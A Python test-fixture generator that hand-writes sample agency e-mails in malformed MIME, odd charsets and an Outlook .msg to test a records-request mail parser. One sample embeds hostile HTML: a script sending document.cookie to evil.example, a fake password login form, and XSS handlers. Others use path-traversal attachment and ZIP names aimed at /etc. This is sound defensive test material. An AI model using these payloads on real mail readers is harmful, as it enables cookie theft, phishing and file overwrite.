"""Builds the sample agency e-mails in this folder. Deterministic: running it again changes
nothing, so the .eml files are committed next to it and a test checks they are current.

    python tests/data/mail/make_samples.py          # (re)write the samples
    python tests/data/mail/make_samples.py --check  # exit 1 if a sample is missing or stale

Every message is written by hand, byte by byte, because half of them must break the rules
a mail library would enforce. The people, agencies and addresses are invented (example.gov,
example.org). `SAMPLES` lists each file and what it covers. Big inputs (a 25 MB attachment,
a ZIP bomb) are built by the tests at run time instead of being committed.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import io
import quopri
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ZIP_TIME = (2026, 3, 2, 9, 30, 0)
CRLF = b"\r\n"

AGENCY = "Troy Police Records Unit <records@troymi.example.gov>"
US = "Newsroom Records <records+k7p2m9q4@newsroom.example.org>"
#: the Message-ID foiatrack gave the request it filed (see outbound.new_message_id)
OUR_MESSAGE_ID = "<foiatrack.12.0a1b2c3d4e5f6071@newsroom.example.org>"
SUBJECT = "RE: Public Records Request - Ring partnership [FOIA FT-12]"
DATE = "Mon, 02 Mar 2026 09:30:00 -0500"


# --- files ----------------------------------------------------------------------------------------


def _pdf_escape(text: str) -> bytes:
    raw = text.encode("cp1252", "replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def make_pdf(pages: list[str]) -> bytes:
    """A small, valid PDF with a real text layer (Helvetica), one string per page."""
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        (
            "<< /Type /Pages /Kids ["
            + " ".join(f"{4 + 2 * i} 0 R" for i in range(len(pages)))
            + f"] /Count {len(pages)} >>"
        ).encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for index, text in enumerate(pages):
        lines = text.split("\n")
        content = b"BT /F1 12 Tf 72 720 Td 16 TL (" + _pdf_escape(lines[0]) + b") Tj"
        for line in lines[1:]:
            content += b" T* (" + _pdf_escape(line) + b") Tj"
        content += b" ET"
        objects.append(
            (
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                f"/Resources << /Font << /F1 3 0 R >> >> /Contents {5 + 2 * index} 0 R >>"
            ).encode()
        )
        objects.append(
            f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"
        )
    return pdf_file(objects)


def pdf_file(objects: list[bytes], *, trailer: str = "") -> bytes:
    """Objects 1..n (the first is the catalog) written out with their cross-reference table;
    `trailer` adds entries to the trailer, e.g. "/Info 5 0 R"."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    extra = f" {trailer}" if trailer else ""
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R{extra} >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


#: the user password of the protected PDF sample
PDF_SECRET = "troy-records-2026"


def encrypted_pdf(user_secret: str = PDF_SECRET) -> bytes:
    """A PDF that needs a password to open (RC4-128, fixed file ID so it is reproducible)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(["Confidential agreement"]))))
    file_id = ByteStringObject(b"foiatrack-sample")
    writer._ID = ArrayObject((file_id, file_id))
    writer.encrypt(user_secret, "owner-" + user_secret, algorithm="RC4-128")
    writer._ID = ArrayObject((file_id, file_id))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def normalise_zip(data: bytes) -> bytes:
    """Rewrite a ZIP with fixed timestamps (and fixed Office document dates)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*",
                    rb"\g<1>2026-03-01T12:00:00Z",
                    content,
                )
            fixed = zipfile.ZipInfo(info.filename, ZIP_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o644 << 16
            target.writestr(fixed, content)
    return out.getvalue()


def make_docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Ring Neighbors Portal Agreement", level=1)
    document.add_paragraph("This agreement is between the City of Troy and Ring LLC.")
    table = document.add_table(rows=2, cols=2)
    for row, (label, value) in enumerate((("Signed", "2019-08-14"), ("Term", "Two years"))):
        table.cell(row, 0).text = label
        table.cell(row, 1).text = value
    document.add_paragraph("Résumé: video requests go through the Neighbors app.")
    properties = document.core_properties
    properties.author = "City of Troy"
    properties.created = properties.modified = dt.datetime(2026, 3, 1, 12, 0, 0)
    properties.revision = 1
    out = io.BytesIO()
    document.save(out)
    return normalise_zip(out.getvalue())


def make_xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Requests"
    sheet.append(["Date", "Case", "Requested via Ring", "Cost"])
    sheet.append(["2025-11-03", "25-0412", "yes", 12.5])
    sheet.append(["2025-12-19", "25-0577", "no", 0])
    summary = workbook.create_sheet("Summary")
    summary.append(["Total requests", 2])
    workbook.properties.creator = "City of Troy"
    workbook.properties.created = workbook.properties.modified = dt.datetime(2026, 3, 1, 12)
    out = io.BytesIO()
    workbook.save(out)
    return normalise_zip(out.getvalue())


def make_zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, content)
    return out.getvalue()


def make_image(text: str, size: tuple[int, int], image_format: str) -> bytes:
    """A picture of some text (a scanned page or a logo), in PNG or JPEG."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    font = ImageFont.load_default(size=max(10, size[1] // 6))
    draw.text((10, size[1] // 3), text, fill="black", font=font)
    out = io.BytesIO()
    image.save(out, image_format, **({"quality": 80} if image_format == "JPEG" else {}))
    return out.getvalue()


#: a winmail.dat: the TNEF signature is enough for it to be recognised and kept as a file
TNEF = b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00"


# --- MIME by hand ---------------------------------------------------------------------------------


def b64(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def headers(*pairs: tuple[str, str | bytes]) -> bytes:
    lines = []
    for name, value in pairs:
        raw = value if isinstance(value, bytes) else value.encode("ascii")
        lines.append(name.encode("ascii") + b": " + raw)
    return CRLF.join(lines) + CRLF


def top(
    subject: str | bytes = SUBJECT,
    *,
    message_id: str | None = "<{}@troymi.example.gov>",
    sender: str | bytes = AGENCY,
    extra: tuple[tuple[str, str | bytes], ...] = (),
    name: str = "sample",
) -> bytes:
    pairs: list[tuple[str, str | bytes]] = [
        ("Return-Path", "<records@troymi.example.gov>"),
        ("Delivered-To", "records+k7p2m9q4@newsroom.example.org"),
        ("From", sender),
        ("To", US),
        ("Subject", subject),
        ("Date", DATE),
    ]
    if message_id is not None:
        pairs.append(("Message-ID", message_id.format(name)))
    pairs += [("In-Reply-To", OUR_MESSAGE_ID), ("References", OUR_MESSAGE_ID)]
    pairs += list(extra)
    pairs.append(("MIME-Version", "1.0"))
    return headers(*pairs)


def leaf(
    content_type: str | bytes,
    body: bytes,
    *,
    encoding: str = "7bit",
    disposition: str | bytes | None = None,
    extra: tuple[tuple[str, str | bytes], ...] = (),
) -> bytes:
    pairs: list[tuple[str, str | bytes]] = [("Content-Type", content_type)]
    if disposition is not None:
        pairs.append(("Content-Disposition", disposition))
    pairs += list(extra)
    if encoding == "base64":
        body = b64(body)
    elif encoding == "quoted-printable":
        body = quopri.encodestring(body).replace(b"\n", CRLF)
    pairs.append(("Content-Transfer-Encoding", encoding))
    return headers(*pairs) + CRLF + body


def attachment(content_type: str, name: str, data: bytes, **kwargs: object) -> bytes:
    return leaf(
        f'{content_type}; name="{name}"',
        data,
        encoding="base64",
        disposition=f'attachment; filename="{name}"',
        **kwargs,  # type: ignore[arg-type]
    )


def multipart(subtype: str, boundary: str, parts: list[bytes], *, close: bool = True) -> bytes:
    """The Content-Type header line and the body of a multipart."""
    out = headers(("Content-Type", f'multipart/{subtype}; boundary="{boundary}"')) + CRLF
    for part in parts:
        out += b"--" + boundary.encode() + CRLF + part + CRLF
    if close:
        out += b"--" + boundary.encode() + b"--" + CRLF
    return out


def text(body: str, charset: str = "utf-8", encoding: str = "quoted-printable") -> bytes:
    return leaf(f"text/plain; charset={charset}", body.encode(charset), encoding=encoding)


def html(body: str) -> bytes:
    return leaf("text/html; charset=utf-8", body.encode(), encoding="quoted-printable")


def wrap(header_block: bytes, body: bytes) -> bytes:
    """A message: its headers, then a body that starts with its own Content-Type header."""
    return header_block + body


# --- the samples ----------------------------------------------------------------------------------

REPLY = """Good morning,

Attached are the records responsive to your public records request, Request #P012345-010126:
the Ring agreement (PDF and Word), the request log (Excel), the emails (ZIP) and a scan.

Sincerely,
Records Unit, Troy Police Department
"""
PDF_RECORD = make_pdf(
    [
        "Memorandum of Understanding\nCity of Troy Police Department and Ring LLC",
        "Page two: Neighbors Public Safety Service terms.",
    ]
)


def records_multipart() -> bytes:
    logo = make_image("TROY", (120, 40), "PNG")
    related = multipart(
        "related",
        "=_related_1",
        [
            multipart(
                "alternative",
                "=_alt_1",
                [
                    text(REPLY),
                    html(
                        "<p>Good morning,</p><p>Attached are the records responsive to your "
                        "public records request, <b>Request #P012345-010126</b>.</p>"
                        '<p>Records Unit<br><img src="cid:logo001@troymi" alt="City of Troy '
                        'seal"></p>'
                    ),
                ],
            ),
            leaf(
                'image/png; name="image001.png"',
                logo,
                encoding="base64",
                disposition='inline; filename="image001.png"',
                extra=(("Content-ID", "<logo001@troymi>"),),
            ),
        ],
    )
    records_zip = make_zip(
        [
            ("emails/2019-08-14 Ring kickoff.txt", b"From: Ring\nSubject: Kickoff\n\nWelcome."),
            ("../../etc/passwd", b"root:x:0:0:not really:/root:/bin/sh\n"),
            ("inner.zip", make_zip([("deeper.txt", b"inside a zip inside a zip")])),
        ]
    )
    body = multipart(
        "mixed",
        "=_mixed_1",
        [
            related,
            attachment("application/pdf", "Ring MOU 2019.pdf", PDF_RECORD),
            attachment(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                "Ring agreement.docx",
                make_docx(),
            ),
            attachment(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "Request log.xlsx",
                make_xlsx(),
            ),
            attachment("application/zip", "Emails.zip", records_zip),
            attachment("image/jpeg", "scan 001.jpg", make_image("RING MOU", (400, 200), "JPEG")),
            attachment("application/ms-tnef", "winmail.dat", TNEF),
        ],
    )
    return wrap(top(name="records-multipart"), body)


def latin1() -> bytes:
    body = (
        "Estimado señor:\n\nHemos recibido su solicitud. La tarifa de copia es de 0,25 € por "
        "página (café incluido).\n\nAtentamente,\nOficina de Registros Públicos\n"
    )
    subject = "=?ISO-8859-1?Q?Re=3A_Solicitud_de_informaci=F3n_p=FAblica?="
    return wrap(
        top(subject, name="latin1"),
        leaf(
            "text/plain; charset=ISO-8859-1",
            body.replace("€", "EUR").encode("latin-1"),
            encoding="quoted-printable",
        ),
    )


def windows1252() -> bytes:
    body = (
        "Dear Requester,\n\nWe received your request \u201cRing partnership records\u201d "
        "\u2014 the fee is \u20ac0 because it\u2019s under 20 pages.\n\nRecords Unit\n"
    )
    return wrap(
        top(name="windows1252"),
        leaf("text/plain; charset=windows-1252", body.encode("cp1252"), encoding="8bit"),
    )


def shift_jis() -> bytes:
    body = "情報公開請求について\n\n請求を受け付けました。受付番号: 2026-0417\n\n総務課\n"
    encoded = base64.b64encode("情報公開請求の受付".encode("iso2022_jp")).decode()
    subject = f"=?ISO-2022-JP?B?{encoded}?="
    sender = (
        "=?shift_jis?B?"
        + base64.b64encode("総務課".encode("shift_jis")).decode()
        + "?= <soumu@city.example.jp>"
    )
    return wrap(
        top(subject, sender=sender, name="shift-jis"),
        leaf("text/plain; charset=Shift_JIS", body.encode("shift_jis"), encoding="base64"),
    )


def broken_charset() -> bytes:
    body = multipart(
        "alternative",
        "=_broken_1",
        [
            leaf(
                'text/plain; charset="x-no-such-charset"',
                "Your request was received. Fee: 12 € (naïve estimate).\n".encode(),
                encoding="8bit",
            ),
            leaf(
                "text/html; charset=us-ascii",
                "<p>Your request was received \x93today\x94.</p>".encode("latin-1"),
                encoding="8bit",
            ),
        ],
    )
    return wrap(top(name="broken-charset"), body)


def encoded_headers() -> bytes:
    subject_bytes = "Solicitud de información pública \u2013 número 2026-0417".encode()
    cut = subject_bytes.index("ó".encode()) + 1  # in the middle of "ó"
    subject = (
        b"=?UTF-8?B?"
        + base64.b64encode(subject_bytes[:cut])
        + b"?=\r\n =?UTF-8?B?"
        + base64.b64encode(subject_bytes[cut:])
        + b"?="
    )
    sender = "=?utf-8?q?Garc=C3=ADa=2C_Mar=C3=ADa?= <mgarcia@troymi.example.gov>"
    pdf = make_pdf(["Informe"])
    parts = [
        text("Adjuntamos los documentos.\n"),
        leaf(
            "application/pdf",
            pdf,
            encoding="base64",
            disposition="attachment; filename*=UTF-8''Informe%20p%C3%BAblico%202026.pdf",
        ),
        leaf(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            make_xlsx(),
            encoding="base64",
            disposition=(
                "attachment;\r\n filename*0*=UTF-8''Registro%20de%20llamadas%20;\r\n"
                " filename*1*=%E2%80%93%20marzo.xlsx"
            ),
        ),
        leaf(
            "application/pdf",
            pdf,
            encoding="base64",
            disposition='attachment; filename="=?UTF-8?B?'
            + base64.b64encode("Política de vídeo.pdf".encode()).decode()
            + '?="',
        ),
        leaf(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            make_docx(),
            encoding="base64",
            disposition='attachment; filename="Résumé de la politique.docx"'.encode(),
        ),
        leaf('application/pdf; name="Only a name.pdf"', pdf, encoding="base64"),
        leaf(
            "text/plain; charset=utf-8",
            b"not a real password file\n",
            disposition='attachment; filename="../../../etc/cron.d/\x01evil .txt"',
        ),
        leaf("application/pdf", pdf, encoding="base64", disposition="attachment"),
    ]
    return wrap(
        top(subject, sender=sender, name="encoded-headers"),
        multipart("mixed", "=_enc_1", parts),
    )


def no_message_id() -> bytes:
    return wrap(
        top(message_id=None, name="no-message-id"),
        text("We acknowledge receipt of your request.\n"),
    )


def no_body() -> bytes:
    return (
        headers(
            ("From", AGENCY),
            ("To", US),
            ("Subject", "RE: Public Records Request"),
            ("Date", DATE),
            ("Message-ID", "<no-body@troymi.example.gov>"),
        )
        + CRLF
    )


def missing_boundary() -> bytes:
    body = multipart(
        "mixed",
        "=_open_1",
        [text("The records are attached.\n"), attachment("application/pdf", "MOU.pdf", PDF_RECORD)],
        close=False,
    )
    return wrap(top(name="missing-boundary"), body)


def wrong_boundary() -> bytes:
    body = multipart(
        "mixed",
        "=_real_1",
        [text("The records are attached.\n"), attachment("application/pdf", "MOU.pdf", PDF_RECORD)],
    ).replace(b'boundary="=_real_1"', b'boundary="=_declared_but_never_used"', 1)
    return wrap(top(name="wrong-boundary"), body)


def bad_base64() -> bytes:
    encoded = b64(PDF_RECORD).split(CRLF)
    # Junk injected by a broken gateway, and the last characters lost in transit.
    damaged = [*encoded[:3], b"!!!! ### ~~ ~~ ### !!!!", *encoded[3:]]
    damaged[-1] = damaged[-1][:-3]
    part = (
        headers(
            ("Content-Type", 'application/pdf; name="MOU.pdf"'),
            ("Content-Disposition", 'attachment; filename="MOU.pdf"'),
            ("Content-Transfer-Encoding", "base64"),
        )
        + CRLF
        + CRLF.join(damaged)
    )
    body = multipart("mixed", "=_b64_1", [text("The records are attached.\n"), part])
    return wrap(top(name="bad-base64"), body)


HOSTILE_HTML = """<html><head>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/phish">
<style>body{display:none} .overlay{position:fixed;top:0;left:0;width:100%;height:100%}</style>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<title>Records</title></head>
<body onload="steal()">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">
Your session expired. <a href="javascript:alert(document.cookie)">Log in again</a></div>
<p onclick="steal()">Dear requester, your <b>records</b> are attached.
<img src="http://tracker.example/pixel.gif?id=123" width="1" height="1" alt="">
<img src="x" onerror="alert(1)" alt="City seal">
<svg onload="alert(2)"><circle r="10"/></svg></p>
<form action="http://evil.example/login" method="post">
<input name="password" type="password"><button>Sign in</button></form>
<iframe src="http://evil.example/frame">framed</iframe>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open the records</a>
<a href="https://troymi.example.gov/records">City records page</a>
<p>Unclosed paragraph <b>bold <i>italic
"""


def hostile_html() -> bytes:
    return wrap(top(name="hostile-html"), html(HOSTILE_HTML))


def encrypted_pdf_sample() -> bytes:
    body = multipart(
        "mixed",
        "=_enc_pdf_1",
        [
            text("The agreement is attached; the password follows in a separate email.\n"),
            attachment("application/pdf", "Ring agreement (protected).pdf", encrypted_pdf()),
        ],
    )
    return wrap(top(name="encrypted-pdf"), body)


def corrupt_pdf() -> bytes:
    broken = PDF_RECORD[:180] + b"\x00\xff garbage from a failed scan \x00" * 3
    really_html = b"<!DOCTYPE html><html><body><p>Your letter is ready.</p></body></html>"
    body = multipart(
        "mixed",
        "=_corrupt_1",
        [
            text("Two files attached.\n"),
            attachment("application/pdf", "records.pdf", broken),
            attachment("application/pdf", "letter.pdf", really_html),
        ],
    )
    return wrap(top(name="corrupt-pdf"), body)


def forwarded() -> bytes:
    acknowledgement = wrap(
        headers(
            ("From", AGENCY),
            ("To", US),
            ("Subject", "Public Records Request received"),
            ("Date", "Tue, 17 Feb 2026 10:00:00 -0500"),
            ("Message-ID", "<ack-0417@troymi.example.gov>"),
            ("MIME-Version", "1.0"),
        ),
        text("We have received your public records request, reference number: 2026-0417.\n"),
    )
    clerk = wrap(
        headers(
            ("From", "City Clerk <clerk@troymi.example.gov>"),
            ("To", "Sgt. Dana Miller <dmiller@troymi.example.gov>"),
            ("Subject", "Records for the Ring request"),
            ("Date", "Fri, 27 Feb 2026 16:12:00 -0500"),
            ("Message-ID", "<clerk-0417@troymi.example.gov>"),
            ("MIME-Version", "1.0"),
        ),
        multipart(
            "mixed",
            "=_clerk_1",
            [
                text("Dana, here is the MOU for the reporter, and the earlier acknowledgement.\n"),
                attachment("application/pdf", "Ring MOU 2019.pdf", PDF_RECORD),
                leaf("message/rfc822", acknowledgement, disposition="attachment"),
            ],
        ),
    )
    body = multipart(
        "mixed",
        "=_fwd_1",
        [
            text("Forwarding the Clerk's response below, with the records attached.\n"),
            leaf("message/rfc822", clerk, disposition='inline; filename="Records.eml"'),
        ],
    )
    return wrap(
        top(
            "Fwd: Records for the Ring request",
            sender="Sgt. Dana Miller <dmiller@troymi.example.gov>",
            name="forwarded",
        ),
        body,
    )


GOVQA_TEXT = """Dear Requester,

The City of Troy has responded to your public records request, reference # W000123-030326,
received on 3/3/2026.

Your records are now available. To download your records, log in to the Public Records Center:
https://troymi.mycusthelp.example.com/WEBAPP/_rs/(S(x1y2z3))/RequestLogin.aspx?rid=4521

Request details: Records of agreements between the Police Department and Ring LLC.

This is an automated message. Please do not reply to this email.
"""


def govqa_portal() -> bytes:
    html_body = (
        "<p>Dear Requester,</p><p>The City of Troy has responded to your public records "
        "request, reference # <b>W000123-030326</b>, received on 3/3/2026.</p>"
        '<p>Your records are now available. <a href="https://troymi.mycusthelp.example.com/'
        'WEBAPP/_rs/(S(x1y2z3))/RequestLogin.aspx?rid=4521">Download your records</a> from '
        "the Public Records Center.</p><p>This is an automated message.</p>"
    )
    return wrap(
        top(
            "Public Records Request :: W000123-030326",
            sender="City of Troy Public Records Center <troymi@mycusthelp.example.net>",
            extra=(("Auto-Submitted", "auto-generated"), ("Precedence", "bulk")),
            name="govqa",
        ),
        multipart("alternative", "=_govqa_1", [text(GOVQA_TEXT), html(html_body)]),
    )


def auto_reply() -> bytes:
    return wrap(
        top(
            "Automatic reply: " + SUBJECT.removeprefix("RE: "),
            sender="Jane Clerk <jclerk@troymi.example.gov>",
            extra=(
                ("Auto-Submitted", "auto-replied"),
                ("X-Autoreply", "yes"),
                ("X-Auto-Response-Suppress", "All"),
            ),
            name="auto-reply",
        ),
        text(
            "I am out of the office until March 9, 2026 with limited access to email. For "
            "urgent records matters please call the City Clerk at (248) 555-0100, extension 4.\n"
        ),
    )


# --- Outlook .msg ---------------------------------------------------------------------------------
#
# A .msg is a Compound File Binary (OLE2) container of MAPI property streams. Nothing on PyPI
# writes one, so here is the least of a CFB writer (version 3, 512-byte sectors, streams under
# 4096 bytes in the mini stream) and of the .msg property layout, enough for extract-msg.

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _chains(sizes: list[int], unit: int, first: int) -> tuple[list[int], list[int]]:
    """(start of each chain or END, allocation table entries) for consecutive runs."""
    starts, table, cursor = [], [], first
    for size in sizes:
        count = -(-size // unit)
        if not count:
            starts.append(_END)
            continue
        starts.append(cursor)
        table += [cursor + i + 1 for i in range(count - 1)] + [_END]
        cursor += count
    return starts, table


def make_cfb(streams: dict[str, bytes]) -> bytes:
    """A compound file holding `streams` ("storage/sub/stream" paths); storages are implied."""
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]
    index: dict[str, int] = {"": 0}
    for path in streams:
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            index[key] = len(entries)
            is_stream = depth == len(parts)
            entries.append(
                {"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": []}
            )
            entries[index["/".join(parts[: depth - 1])]]["children"].append(index[key])
    small = [path for path in streams if len(streams[path]) < 4096]
    big = [path for path in streams if len(streams[path]) >= 4096]
    mini_starts, minifat = _chains([len(streams[p]) for p in small], 64, 0)
    mini_stream = b"".join(streams[p].ljust(-(-len(streams[p]) // 64) * 64, b"\0") for p in small)
    directory_sectors = -(-len(entries) // 4)
    minifat_sectors = -(-len(minifat) // 128)
    mini_sectors = -(-len(mini_stream) // 512)
    big_sectors = sum(-(-len(streams[p]) // 512) for p in big)
    others = directory_sectors + minifat_sectors + mini_sectors + big_sectors
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + others:
        fat_sectors += 1
    fat = [_FATSECT] * fat_sectors
    layout = [directory_sectors * 512, minifat_sectors * 512, len(mini_stream)]
    layout += [len(streams[p]) for p in big]
    starts, table = _chains(layout, 512, fat_sectors)
    fat += table
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    directory_start, minifat_start, mini_start = starts[:3]
    big_starts = dict(zip(big, starts[3:], strict=True))
    small_starts = dict(zip(small, mini_starts, strict=True))
    for path, number in index.items():
        entry = entries[number]
        if number == 0:
            entry["start"], entry["size"] = (mini_start, len(mini_stream))
        elif entry["type"] == 2:
            size = len(streams[path])
            entry["start"] = big_starts[path] if path in big_starts else small_starts[path]
            entry["size"] = size
    directory = b""
    for entry in entries:
        children = sorted(
            entry["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper())
        )
        # Siblings as a right-leaning chain: a valid search tree, which is all readers use.
        for position, child in enumerate(children):
            entries[child]["right"] = (
                children[position + 1] if position + 1 < len(children) else _NOSTREAM
            )
        entry["child"] = children[0] if children else _NOSTREAM
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += (
            name.ljust(64, b"\0")
            + len(name).to_bytes(2, "little")
            + bytes([entry["type"], 1])
            + _NOSTREAM.to_bytes(4, "little")
            + entry.get("right", _NOSTREAM).to_bytes(4, "little")
            + entry["child"].to_bytes(4, "little")
            + b"\0" * 36
            + entry.get("start", _END if entry["type"] == 2 else 0).to_bytes(4, "little")
            + entry.get("size", 0).to_bytes(8, "little")
        )
    empty = b"\0" * 64 + b"\0\0\0\0" + _NOSTREAM.to_bytes(4, "little") * 3 + b"\0" * 48
    directory = directory.ljust(directory_sectors * 512, b"\0")
    directory = b"".join(
        directory[i : i + 128] if directory[i : i + 128].strip(b"\0") else empty
        for i in range(0, len(directory), 128)
    )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + (0x3E).to_bytes(2, "little")
        + (3).to_bytes(2, "little")
        + b"\xfe\xff"
        + (9).to_bytes(2, "little")
        + (6).to_bytes(2, "little")
        + b"\0" * 6
        + (0).to_bytes(4, "little")
        + fat_sectors.to_bytes(4, "little")
        + directory_start.to_bytes(4, "little")
        + (0).to_bytes(4, "little")
        + (4096).to_bytes(4, "little")
        + (minifat_start if minifat else _END).to_bytes(4, "little")
        + minifat_sectors.to_bytes(4, "little")
        + _END.to_bytes(4, "little")
        + (0).to_bytes(4, "little")
        + b"".join((i if i < fat_sectors else _FREE).to_bytes(4, "little") for i in range(109))
    )
    body = b"".join(entry.to_bytes(4, "little") for entry in fat)
    body += directory
    minifat_bytes = b"".join(entry.to_bytes(4, "little") for entry in minifat)
    body += minifat_bytes + _FREE.to_bytes(4, "little") * (minifat_sectors * 128 - len(minifat))
    body += mini_stream.ljust(mini_sectors * 512, b"\0")
    for path in big:
        body += streams[path].ljust(-(-len(streams[path]) // 512) * 512, b"\0")
    return header + body


def _prop(tag: int, value: bytes | int = 0, *, size: int | None = None) -> bytes:
    """One 16-byte entry of a __properties_version1.0 stream."""
    flags = (6).to_bytes(4, "little")
    if size is not None:
        return tag.to_bytes(4, "little") + flags + size.to_bytes(4, "little") + b"\0" * 4
    raw = value if isinstance(value, bytes) else int(value).to_bytes(4, "little")
    return tag.to_bytes(4, "little") + flags + raw.ljust(8, b"\0")


def _unicode(
    streams: dict[str, bytes], props: list[bytes], prefix: str, tag: int, text: str
) -> None:
    data = text.encode("utf-16-le")
    streams[f"{prefix}__substg1.0_{tag:08X}"] = data
    props.append(_prop(tag, size=len(data) + 2))


def outlook_msg() -> bytes:
    """A received message saved from Outlook: headers, plain and HTML body, a PDF."""
    streams: dict[str, bytes] = {}
    props: list[bytes] = []
    transport = (
        f"From: {AGENCY}\r\nTo: {US}\r\nSubject: RE: Ring records (saved from Outlook)\r\n"
        f"Date: {DATE}\r\nMessage-ID: <outlook-0417@troymi.example.gov>\r\n"
        f"In-Reply-To: {OUR_MESSAGE_ID}\r\nMIME-Version: 1.0\r\n"
    )
    for tag, value in (
        (0x001A001F, "IPM.Note"),
        (0x0037001F, "RE: Ring records (saved from Outlook)"),
        (0x1000001F, "Please find the records attached. Request #P012345-010126.\r\n"),
        (0x007D001F, transport),
        (0x0C1A001F, "Troy Police Records Unit"),
        (0x5D01001F, "records@troymi.example.gov"),
        (0x0E04001F, "Newsroom Records"),
        (0x1035001F, "<outlook-0417@troymi.example.gov>"),
    ):
        _unicode(streams, props, "", tag, value)
    html_body = b"<html><body><p>Please find the records <b>attached</b>.</p></body></html>"
    streams["__substg1.0_10130102"] = html_body
    props.append(_prop(0x10130102, size=len(html_body)))
    submitted = int((dt.datetime(2026, 3, 2, 14, 30) - dt.datetime(1601, 1, 1)).total_seconds())
    props.append(_prop(0x00390040, (submitted * 10_000_000).to_bytes(8, "little")))
    streams["__properties_version1.0"] = (
        b"\0" * 8
        + (1).to_bytes(4, "little") * 2
        + (1).to_bytes(4, "little") * 2
        + b"\0" * 8
        + b"".join(props)
    )
    recipient = "__recip_version1.0_#00000000/"
    recipient_props = [_prop(0x0C150003, 1)]
    for tag, value in (
        (0x3001001F, "Newsroom Records"),
        (0x39FE001F, "records+k7p2m9q4@newsroom.example.org"),
        (0x3003001F, "records+k7p2m9q4@newsroom.example.org"),
    ):
        _unicode(streams, recipient_props, recipient, tag, value)
    streams[recipient + "__properties_version1.0"] = b"\0" * 8 + b"".join(recipient_props)
    attached = "__attach_version1.0_#00000000/"
    attach_props = [_prop(0x37050003, 1), _prop(0x0E210003, 0)]
    streams[attached + "__substg1.0_37010102"] = PDF_RECORD
    attach_props.append(_prop(0x37010102, size=len(PDF_RECORD)))
    for tag, value in (
        (0x3707001F, "Ring MOU 2019.pdf"),
        (0x3704001F, "RINGMO~1.PDF"),
        (0x3001001F, "Ring MOU 2019.pdf"),
        (0x370E001F, "application/pdf"),
    ):
        _unicode(streams, attach_props, attached, tag, value)
    streams[attached + "__properties_version1.0"] = b"\0" * 8 + b"".join(attach_props)
    for number in ("00020102", "00030102", "00040102"):
        streams[f"__nameid_version1.0/__substg1.0_{number}"] = b""
    return make_cfb(streams)


SAMPLES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "records_multipart.eml": (
        "multipart/mixed > related > alternative text+HTML; PDF, DOCX, XLSX, ZIP (a traversal "
        "name, a nested ZIP), JPEG scan, inline cid: logo image001.png, winmail.dat (TNEF)",
        records_multipart,
    ),
    "latin1.eml": ("ISO-8859-1 quoted-printable body, RFC 2047 Q subject in Latin-1", latin1),
    "windows1252.eml": ("8-bit Windows-1252 body: curly quotes, em dash, euro sign", windows1252),
    "shift_jis.eml": (
        "Shift-JIS base64 body, ISO-2022-JP subject, Shift-JIS From name",
        shift_jis,
    ),
